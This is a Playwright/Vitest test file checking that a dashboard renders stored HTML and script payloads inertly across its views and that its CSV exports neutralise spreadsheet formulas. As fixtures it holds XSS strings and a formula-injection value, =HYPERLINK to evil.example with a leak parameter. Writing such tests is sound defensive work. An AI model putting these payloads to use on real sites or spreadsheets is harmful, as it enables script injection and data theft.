import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { built, connect, downloadBytes, gotoView, openPage, settled } from './browser.ts';

const hostileUrl = inject('fixtureUrl');
let browser: Browser;
beforeAll(async () => {
  await built(hostileUrl);
  browser = await connect();
}, 180_000);
afterAll(() => browser?.close());

const VIEWS = ['overview', 'alignment', 'map', 'divergence', 'coverage', 'gaps', 'explorer'];

describe('a ladder holding HTML and script payloads renders inert', () => {
  for (const view of VIEWS) {
    it(`${view}: no payload runs, no element or request comes from ladder text`, async () => {
      const { context, page, log } = await openPage(browser);
      await gotoView(page, `${hostileUrl}?view=${view}&company=hostile`);
      await settled(page);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
      expect(await page.locator('main script, main img, main b, main a[href^="javascript"]').count()).toBe(0);
      expect(log.requests.filter((u) => /x-(summary|attr|review)\.png/.test(u))).toEqual([]);
      expect(log.errors).toEqual([]);
      await context.close();
    });
  }

  it('shows the payloads as literal text in the explorer', async () => {
    const { context, page } = await openPage(browser);
    await gotoView(page, `${hostileUrl}?view=explorer&company=hostile&q=secure%20code`);
    const text = await page.textContent('main table.data-table tbody');
    expect(text).toContain("<script>window.__pwned = 'script'</script>");
    await page.fill('#explorer-search', 'designs');
    expect(await page.textContent('main table.data-table tbody')).toContain('<img src="x-review.png"');
    await context.close();
  });

  it('neutralises spreadsheet formulas in CSV exports', async () => {
    const { context, page } = await openPage(browser);
    await gotoView(page, `${hostileUrl}?view=explorer&company=hostile`);
    const [file] = await Promise.all([page.waitForEvent('download'), page.click('[data-export="statements"] .export-bar button:text-is("CSV")')]);
    const csv = (await downloadBytes(file)).toString('utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""report"") is how I report progress."`);
    expect(csv).toContain("'@SUM(1+1)");
    for (const line of csv.split('\r\n')) for (const cell of line.split(',')) expect(cell).not.toMatch(/^"?[=+@]/);
    await context.close();
  });
});
